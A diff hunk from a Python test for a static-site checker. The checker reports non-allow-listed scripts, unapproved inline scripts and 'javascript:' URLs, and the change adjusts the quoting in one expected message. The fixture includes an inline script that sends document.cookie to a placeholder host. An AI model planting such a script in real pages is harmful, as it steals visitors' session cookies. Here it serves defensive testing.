@@ -68,8 +68,8 @@ def test_every_unsafe_construct_in_every_page_is_reported_at_once(tmp_path: Path
     digest = hashlib.sha256(b"fetch('https://x.example/?c=' + document.cookie)").hexdigest()
     assert lines[:-2] == [
         f"{site}/a/index.html:8:1: script 'https://cdn.example.org/analytics.js' is not on the allow-list ({ALLOWED})",
-        f"{site}/a/index.html:9:1: inline script is not on the allow-list: \"fetch('https://x.example/?c=' + "
-        "document.cookie)\"; if it is the theme's own after an upgrade, review it and add "
+        f"{site}/a/index.html:9:1: inline script is not on the allow-list: 'fetch('https://x.example/?c=' + "
+        "document.cookie)'; if it is the theme's own after an upgrade, review it and add "
         f"'{digest}' "
         "to THEME_INLINE_SCRIPTS in generator/sitecheck.py",
         f"{site}/a/index.html:10:1: 'javascript:' URL in the 'href' attribute of <a>",
